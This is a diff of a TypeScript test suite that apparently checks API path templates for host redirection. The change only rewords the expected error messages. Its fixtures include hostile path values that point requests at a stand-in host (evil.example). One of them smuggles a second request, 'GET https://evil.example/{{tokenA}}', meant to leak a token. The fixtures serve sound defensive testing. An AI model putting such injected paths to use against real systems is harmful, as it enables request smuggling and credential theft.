@@ -96,9 +96,9 @@ const object = (name: string, schema: object): Changes => ({
 
 describe("a text of a description that a runner would take for its own", () => {
   test.each<readonly [string, Changes, string]>([
-    ["a path that is the end of a host", { path: ".evil.example/orders/{orderId}" }, "does not begin with one"],
-    ["a path that is a port and a user", { path: ":18081/at/{orderId}" }, "does not begin with one"],
-    ["a path of another host", { path: "//evil.example/{orderId}" }, "does not begin with one"],
+    ["a path that is the end of a host", { path: ".evil.example/orders/{orderId}" }, "does not begin with exactly one"],
+    ["a path that is a port and a user", { path: ":18081/at/{orderId}" }, "does not begin with exactly one"],
+    ["a path of another host", { path: "//evil.example/{orderId}" }, "does not begin with exactly one"],
     [
       "a path with a request behind it",
       { path: "/o/{orderId}\n\nGET https://evil.example/{{tokenA}}\n#" },
